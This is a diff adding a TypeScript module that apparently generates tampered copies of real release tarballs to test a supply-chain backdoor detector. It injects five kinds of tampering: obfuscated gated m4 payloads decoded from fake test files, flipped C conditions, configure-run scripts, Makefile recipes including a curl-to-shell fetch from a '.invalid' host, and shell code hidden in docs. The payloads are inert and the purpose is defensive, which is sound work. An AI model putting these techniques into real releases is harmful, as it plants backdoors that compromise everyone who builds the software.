@@ -1,0 +1,224 @@
+/**
+ * @fileoverview Tampering injected into a real release, the way release-time backdoors were
+ * planted: the release's own tarball is unpacked, changed in one of five ways and packed again.
+ * Every injection draws its names, gates, encodings and positions from a generator seeded by the
+ * release, so no two releases carry the same bytes. The payloads are inert: hosts are `.invalid`,
+ * paths lead into a directory that does not exist, and nothing here is ever run.
+ */
+import { execFileSync } from 'node:child_process'
+import { gzipSync } from 'node:zlib'
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { join, relative } from 'node:path'
+
+export const TAMPER_KINDS = ['m4-payload', 'c-line', 'configure-script', 'makefile-rule', 'doc-as-code'] as const
+export type TamperKind = (typeof TAMPER_KINDS)[number]
+
+export interface Tampering {
+  readonly kind: TamperKind
+  /** the path the top finding must name */
+  readonly path: string
+  /** every path the injection touched */
+  readonly touched: readonly string[]
+  readonly description: string
+}
+
+/** mulberry32: small, seeded, good enough to vary names and positions */
+function rng(seedText: string): () => number {
+  let seed = 0
+  for (const c of seedText) seed = (Math.imul(seed, 31) + c.charCodeAt(0)) | 0
+  return () => {
+    seed = (seed + 0x6d2b79f5) | 0
+    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
+  }
+}
+
+interface Draw {
+  pick<T>(xs: readonly T[]): T
+  int(n: number): number
+}
+
+const draw = (seed: string): Draw => {
+  const r = rng(seed)
+  return { pick: (xs) => xs[Math.floor(r() * xs.length)] as (typeof xs)[number], int: (n) => Math.floor(r() * n) }
+}
+
+const WORDS = ['host', 'crc', 'simd', 'endian', 'probe', 'align', 'cpuid', 'visibility', 'bswap', 'ifunc', 'pthread', 'atomic', 'cache', 'locale', 'path', 'vector']
+const SWAPS = [
+  ['\\t \\-_', ' \\t_\\-'],
+  ['a-zA-Z', 'n-za-mN-ZA-M'],
+  ['\\-_ \\t', '_\\- \\t'],
+  ['0-9a-f', 'f-a9-0'],
+]
+const DECODERS = ['xz -d', 'gzip -d', 'base64 -d', 'bzip2 -d']
+const GATES = ['test "x$host_os" = "xlinux-gnu"', 'test "x$GCC" = "xyes"', 'test -z "$RPM_ARCH$DEB_BUILD_ARCH" || test -n "$DEB_BUILD_ARCH"', 'case "$host_cpu" in x86_64) true ;; *) false ;; esac', 'test ! -d "$srcdir/.git"']
+
+function walk(dir: string, base = dir, out: string[] = []): string[] {
+  for (const name of readdirSync(dir)) {
+    const full = join(dir, name)
+    const st = statSync(full, { throwIfNoEntry: false })
+    if (!st) continue
+    if (st.isDirectory()) walk(full, base, out)
+    else if (st.isFile()) out.push(relative(base, full))
+  }
+  return out.sort()
+}
+
+/** A harmless script, gzipped and byte-swapped: what the test file "decodes" to. */
+function hiddenScript(d: Draw): Buffer {
+  const script = `#!/bin/sh\n# ${d.pick(WORDS)}-${d.int(1e6)}\nmkdir -p /nonexistent/stagelight-${d.int(1e6)} 2>/dev/null && echo ${d.pick(WORDS)} > /nonexistent/stagelight/x\n`
+  const packed = gzipSync(Buffer.from(script))
+  return Buffer.from(packed.map((b) => b ^ (0x20 + d.int(64))))
+}
+
+function m4Payload(root: string, files: readonly string[], d: Draw): Tampering {
+  const m4s = files.filter((f) => /^m4\/[^/]+\.m4$/.test(f) && !/^m4\/(libtool|lt~obsolete|ltoptions|ltsugar|ltversion)\.m4$/.test(f))
+  const w = d.pick(WORDS)
+  const target = m4s.length > 0 ? d.pick(m4s) : `m4/${w}-${d.pick(WORDS)}.m4`
+  const testFile = `tests/files/${d.pick(['bad', 'good', 'corrupt'])}-${d.int(9) + 1}-${d.pick(WORDS)}.${d.pick(['xz', 'lz', 'bin', 'dat'])}`
+  const [from, to] = d.pick(SWAPS) as [string, string]
+  const decoder = d.pick(DECODERS)
+  const v = `gl_${w}_${d.int(100)}`
+  const payload = [
+    `  ${v}_map='tr "${from}" "${to}"'`,
+    `  if ${d.pick(GATES)}; then`,
+    `    if test -f "$srcdir/${testFile}"; then`,
+    `      ${v}_cmd=\`eval $${v}_map < "$srcdir/${testFile}" | ${decoder} 2>/dev/null\``,
+    `      eval "$${v}_cmd"`,
+    '    fi',
+    '  fi',
+  ]
+  const path = join(root, target)
+  const before = existsSync(path) ? readFileSync(path, 'utf8').split('\n') : [`# ${target.split('/').pop()} serial 1`, `AC_DEFUN([gl_${w.toUpperCase()}],`, '[', '  :', '])', '']
+  // inside the first macro body: after the first line that opens one
+  let at = before.findIndex((l) => /^\s*\[\s*$|^AC_DEFUN\(\[[^\]]+\],\s*\[\s*$/.test(l))
+  at = at < 0 ? Math.max(0, before.length - 2) : at + 1 + d.int(2)
+  const after = [...before.slice(0, at), ...payload, ...before.slice(at)]
+  mkdirSync(join(root, 'm4'), { recursive: true })
+  writeFileSync(path, after.join('\n'))
+  mkdirSync(join(root, testFile, '..'), { recursive: true })
+  writeFileSync(join(root, testFile), hiddenScript(d))
+  return { kind: 'm4-payload', path: target, touched: [target, testFile], description: `gated ${decoder} of ${testFile} through tr in ${target}` }
+}
+
+const FLIPS: readonly [RegExp, string][] = [
+  [/ < /, ' <= '],
+  [/ > /, ' >= '],
+  [/ == /, ' != '],
+  [/ != /, ' == '],
+  [/return 0;/, 'return 1;'],
+  [/return -1;/, 'return 0;'],
+  [/ && /, ' || '],
+]
+
+function cLine(root: string, files: readonly string[], d: Draw): Tampering {
+  const sources = files.filter((f) => /\.c$/.test(f) && !/(^|\/)(tests?|examples?|contrib|doc)\//.test(f))
+  for (let attempt = 0; attempt < 40; attempt++) {
+    const target = d.pick(sources)
+    const lines = readFileSync(join(root, target), 'utf8').split('\n')
+    const candidates = lines.map((l, i) => ({ l, i })).filter(({ l }) => /^\s+(if|while|return)\b/.test(l) && FLIPS.some(([re]) => re.test(l)))
+    if (candidates.length === 0) continue
+    const { l, i } = d.pick(candidates)
+    const [re, by] = FLIPS.find(([r]) => r.test(l)) as [RegExp, string]
+    lines[i] = l.replace(re, by)
+    writeFileSync(join(root, target), lines.join('\n'))
+    return { kind: 'c-line', path: target, touched: [target], description: `line ${i + 1} of ${target}: \`${l.trim()}\` → \`${(lines[i] ?? '').trim()}\`` }
+  }
+  throw new Error('no C line to change')
+}
+
+function configureScript(root: string, _files: readonly string[], d: Draw): Tampering {
+  const dir = d.pick(['build-aux', 'config', 'scripts', 'tools'])
+  const script = `${dir}/${d.pick(WORDS)}-${d.pick(['check', 'detect', 'setup', 'fixup'])}.sh`
+  const body = d.pick([
+    `#!/bin/sh\n# adjust the build for ${d.pick(WORDS)}\nsed -i 's/^CFLAGS = /CFLAGS = -DHAVE_${d.pick(WORDS).toUpperCase()}_HOOK /' Makefile 2>/dev/null\n`,
+    `#!/bin/sh\nfor f in "$@"; do cat "$f"; done | tr 'a-zA-Z' 'n-za-mN-ZA-M' > /nonexistent/${d.int(1e5)}/out\n`,
+    `#!/bin/sh\nexec 3<>/dev/null\nprintf '%s\\n' "#define ${d.pick(WORDS).toUpperCase()}_HOOK 1" >> config.h\n`,
+  ])
+  mkdirSync(join(root, dir), { recursive: true })
+  writeFileSync(join(root, script), body)
+  chmodSync(join(root, script), 0o755)
+  const configure = join(root, 'configure')
+  const lines = readFileSync(configure, 'utf8').split('\n')
+  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <<|^# Check whether --enable/.test(l))
+  const call = d.pick([`$SHELL "$srcdir/${script}" "$srcdir"`, `. "$srcdir/${script}"`, `sh "$ac_srcdir/${script}" || :`.replace('$ac_srcdir', '$srcdir')])
+  lines.splice(at < 0 ? lines.length - 10 : at, 0, call)
+  writeFileSync(configure, lines.join('\n'))
+  return { kind: 'configure-script', path: script, touched: [script, 'configure'], description: `${script} added and run by configure (\`${call}\`)` }
+}
+
+function makefileRule(root: string, files: readonly string[], d: Draw): Tampering {
+  const makefiles = files.filter((f) => /(^|\/)Makefile\.in$/.test(f))
+  const target = makefiles.includes('Makefile.in') && d.int(2) === 0 ? 'Makefile.in' : d.pick(makefiles)
+  const lines = readFileSync(join(root, target), 'utf8').split('\n')
+  const ruleAt = lines.findIndex((l) => /^(all-am|install-exec-am|install-data-am|check-am):/.test(l))
+  const recipe = d.pick([
+    `\t@cd $(srcdir) && sed -n '/^#!/,$$p' ${d.pick(['tests', 'test', 'doc'])}/${d.pick(WORDS)}.data | $(SHELL)`,
+    `\t$(AM_V_at)echo '${Buffer.from(`echo ${d.pick(WORDS)} > /nonexistent/x`).toString('base64')}' | base64 -d | $(SHELL)`,
+    `\t@curl -fsS http://${d.pick(WORDS)}.invalid/${d.int(1e4)} | sh || true`,
+    `\t@eval "$$(cat $(srcdir)/${d.pick(['README', 'NEWS', 'AUTHORS'])} | tr '${d.pick(SWAPS)?.[0] ?? ''}' '${d.pick(SWAPS)?.[1] ?? ''}')"`,
+  ])
+  const insertAt = ruleAt < 0 ? lines.length : ruleAt + 1
+  if (ruleAt < 0) lines.push('all-local:')
+  lines.splice(insertAt, 0, recipe)
+  writeFileSync(join(root, target), lines.join('\n'))
+  return { kind: 'makefile-rule', path: target, touched: [target], description: `recipe line added to ${target}: ${recipe.trim()}` }
+}
+
+function docAsCode(root: string, files: readonly string[], d: Draw): Tampering {
+  const docs = files.filter((f) => /^(doc|docs|man)\/[^/]+\.(txt|md|\d|html?)$|^(README|NEWS|THANKS|AUTHORS)(\.md)?$/.test(f))
+  const target = d.pick(docs.length > 0 ? docs : ['README'])
+  const code = d.pick([
+    `\n: <<'${d.pick(WORDS).toUpperCase()}'\n${'='.repeat(20)}\n${d.pick(WORDS).toUpperCase()}\nmkdir -p /nonexistent/${d.int(1e5)} && cp "$0" /nonexistent/${d.int(1e5)}/x\n`,
+    `\n#${d.pick(WORDS)}\n[ -w /nonexistent/${d.int(1e5)} ] && printf '%s' "${d.pick(WORDS)}" > /nonexistent/${d.int(1e5)}/hook\n`,
+  ])
+  writeFileSync(join(root, target), readFileSync(join(root, target), 'utf8') + code)
+  const configure = join(root, 'configure')
+  const lines = readFileSync(configure, 'utf8').split('\n')
+  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <</.test(l))
+  const call = d.pick([`. "$srcdir/${target}" 2>/dev/null`, `$SHELL "$srcdir/${target}" >/dev/null 2>&1`, `sh "$srcdir/${target}" 2>/dev/null || :`])
+  lines.splice(at < 0 ? lines.length - 10 : at, 0, call)
+  writeFileSync(configure, lines.join('\n'))
+  return { kind: 'doc-as-code', path: target, touched: [target, 'configure'], description: `shell code appended to ${target}, which configure runs (\`${call}\`)` }
+}
+
+const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
+  'm4-payload': m4Payload,
+  'c-line': cLine,
+  'configure-script': configureScript,
+  'makefile-rule': makefileRule,
+  'doc-as-code': docAsCode,
+}
+
+/** Which injections a release can take (configure and Makefile.in exist only in autotools releases). */
+export function applicableKinds(files: readonly string[]): TamperKind[] {
+  const kinds: TamperKind[] = []
+  const has = (re: RegExp): boolean => files.some((f) => re.test(f))
+  if (has(/^configure\.(ac|in)$/)) kinds.push('m4-payload')
+  if (has(/\.c$/)) kinds.push('c-line')
+  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code')
+  if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule')
+  return kinds
+}
+
+/** Unpacks `tarball`, injects `kind`, packs it again as `out` (gzip) with the same top directory. */
+export function tamperTarball(tarball: string, out: string, kind: TamperKind, seed: string): Tampering {
+  const work = mkdtempSync(join(out, '..', '.tamper-'))
+  try {
+    execFileSync('tar', ['-xf', tarball, '-C', work])
+    const top = readdirSync(work)
+    const root = top.length === 1 && statSync(join(work, top[0] ?? '')).isDirectory() ? join(work, top[0] ?? '') : work
+    const tampering = INJECT[kind](root, walk(root), draw(`${seed}/${kind}`))
+    execFileSync('tar', ['-czf', out, '-C', work, ...(root === work ? ['.'] : [top[0] ?? '.'])])
+    return tampering
+  } finally {
+    rmSync(work, { recursive: true, force: true })
+  }
+}
+
+/** The files of a tarball (top directory stripped), for choosing what it can be tampered with. */
+export function tarballFiles(tarball: string): string[] {
+  const list = execFileSync('tar', ['-tf', tarball], { maxBuffer: 256 * 1024 * 1024 }).toString('utf8').split('\n').filter((l) => l && !l.endsWith('/'))
+  return list.map((l) => l.replace(/^\.\//, '').replace(/^[^/]+\//, ''))
+}
